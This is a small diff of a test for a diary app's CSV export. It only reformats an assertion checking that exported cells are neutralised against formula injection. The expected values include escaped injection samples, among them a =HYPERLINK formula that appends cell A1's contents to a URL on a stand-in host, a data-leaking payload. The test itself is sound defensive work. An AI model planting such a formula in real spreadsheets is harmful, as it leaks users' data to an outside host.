@@ -24,7 +24,9 @@ describe('the diary CSV of the export', () => {
     if (!('records' in parsed)) throw new Error(`the exported CSV does not parse: ${parsed.problem}`);
     const rows = parsed.records.slice(1);
     const cells = rows.map((row) => row.fields[2]).sort();
-    expect(cells).toEqual([`'+34 600 000 000`, `'-1 de ánimo hoy`, `'=HYPERLINK("https://example.com/?d="&A1,"ver")`, `'@SUMA(1;2)`, 'Un día normal = bueno'].sort());
+    expect(cells).toEqual(
+      [`'+34 600 000 000`, `'-1 de ánimo hoy`, `'=HYPERLINK("https://example.com/?d="&A1,"ver")`, `'@SUMA(1;2)`, 'Un día normal = bueno'].sort(),
+    );
     for (const row of rows) for (const cell of row.fields) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
 
     const document = JSON.parse(await unzipText(exported.rawPayload, 'sendero-export.json')) as { diaryRecords: { description: string }[] };
